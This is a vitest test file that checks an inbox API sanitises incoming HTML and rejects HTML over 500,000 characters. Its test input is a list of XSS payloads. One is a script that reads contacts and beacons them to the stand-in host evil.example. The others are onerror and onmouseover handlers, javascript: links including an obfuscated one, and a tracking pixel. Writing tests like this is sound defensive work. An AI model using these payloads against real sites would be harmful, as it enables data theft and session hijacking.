// API-channel HTML over real HTTP: `html` with a script, an onerror handler and javascript: links
// is stored sanitised by core's sanitizeHtml (the email channel's sanitiser); too much HTML is
// refused. What the inbox serves of it is in inbox-view.test.ts.

import { tables } from "@switchboard/core/testing";
import { eq } from "drizzle-orm";
import { afterEach, describe, expect, it } from "vitest";
import { type ApiInbox, startApiInbox } from "../test-support/inbox.ts";

let inbox: ApiInbox | undefined;
afterEach(async () => {
  await inbox?.close();
  inbox = undefined;
});

const HOSTILE = [
  "<p>Order <b>42</b> is late.</p>",
  "<script>fetch('/api/v1/contacts').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example', t))</script>",
  '<img src="x" onerror="alert(document.cookie)">',
  '<a href="javascript:alert(1)">track</a>',
  '<a href="JaVaScRiPt&colon;alert(2)">again</a>',
  '<div onmouseover="alert(3)" style="background:url(javascript:alert(4))">hover</div>',
  '<img src="https://tracker.example/p.gif">',
].join("");

describe("API channel html", () => {
  it("stores html sanitised with core's sanitizeHtml", async () => {
    inbox = await startApiInbox();
    const answer = await inbox.post({ id: "m1", contact: { id: "cust-1" }, text: "Order 42 is late.", html: HOSTILE });
    expect(answer.status).toBe(201);
    const { message_id: messageId } = (await answer.json()) as { message_id: number };
    const [row] = await inbox.harness.switchboard.store.db.select().from(tables.messages).where(eq(tables.messages.id, messageId));
    expect(row!.html).toBe(
      '<p>Order <b>42</b> is late.</p><img /><a target="_blank" rel="noopener noreferrer nofollow">track</a><a target="_blank" rel="noopener noreferrer nofollow">again</a><div>hover</div><img data-remote-src="https://tracker.example/p.gif" />',
    );
  });

  it("refuses html past 500,000 characters with a 422, storing nothing", async () => {
    inbox = await startApiInbox();
    const answer = await inbox.post({ id: "m1", contact: { id: "cust-1" }, text: "big", html: "<p>a</p>".repeat(70_000) });
    expect(answer.status).toBe(422);
    expect(((await answer.json()) as { error: { message: string } }).error.message).toContain("html");
    expect(await inbox.harness.switchboard.store.db.select().from(tables.messages)).toHaveLength(0);
  });
});
